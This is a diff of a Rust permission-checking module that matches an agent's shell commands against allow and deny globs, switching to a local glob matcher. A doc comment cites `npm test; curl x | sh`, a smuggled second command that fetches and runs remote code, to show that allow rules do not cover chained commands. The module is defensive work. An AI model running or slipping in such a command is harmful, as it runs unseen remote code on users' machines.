@@ -15,9 +15,10 @@
 //! as written, matches, and the line runs no script it does not show: an
 //! allow of `npm test*` does not grant `npm test; curl x | sh`.
 
-use globset::GlobMatcher;
 use serde_json::Value;
 use tackle::shell::{Programs, Run, programs, programs_of_argv};
+
+use super::glob::Matcher;
 
 /// The commands a shell tool's `command` runs: a line, or the words of an
 /// argument list (Codex's `shell`); `None` for anything else.
@@ -36,19 +37,20 @@ pub(super) fn read(command: &Value) -> Option<Programs> {
 }
 
 /// Whether `glob` matches a command the line runs (for deny and ask).
-pub(super) fn any_command(glob: &GlobMatcher, programs: &Programs) -> bool {
+pub(super) fn any_command(glob: &Matcher, programs: &Programs) -> bool {
     programs.runs.iter().any(|run| {
-        glob.is_match(run.text()) || (run.program() != run.words[0] && glob.is_match(by_name(run)))
+        glob.is_match(&run.text())
+            || (run.program() != run.words[0] && glob.is_match(&by_name(run)))
     })
 }
 
 /// Whether `glob` matches every simple command of the line as written, and
 /// the line runs nothing unseen (for allow); `None` for a line without a
 /// command, which the glob judges whole.
-pub(super) fn every_command(glob: &GlobMatcher, programs: &Programs) -> Option<bool> {
+pub(super) fn every_command(glob: &Matcher, programs: &Programs) -> Option<bool> {
     let mut written = programs.runs.iter().filter(|run| run.as_written).peekable();
     written.peek()?;
-    Some(programs.unseen.is_empty() && written.all(|run| glob.is_match(run.text())))
+    Some(programs.unseen.is_empty() && written.all(|run| glob.is_match(&run.text())))
 }
 
 /// The run's text with its program named without its folder.
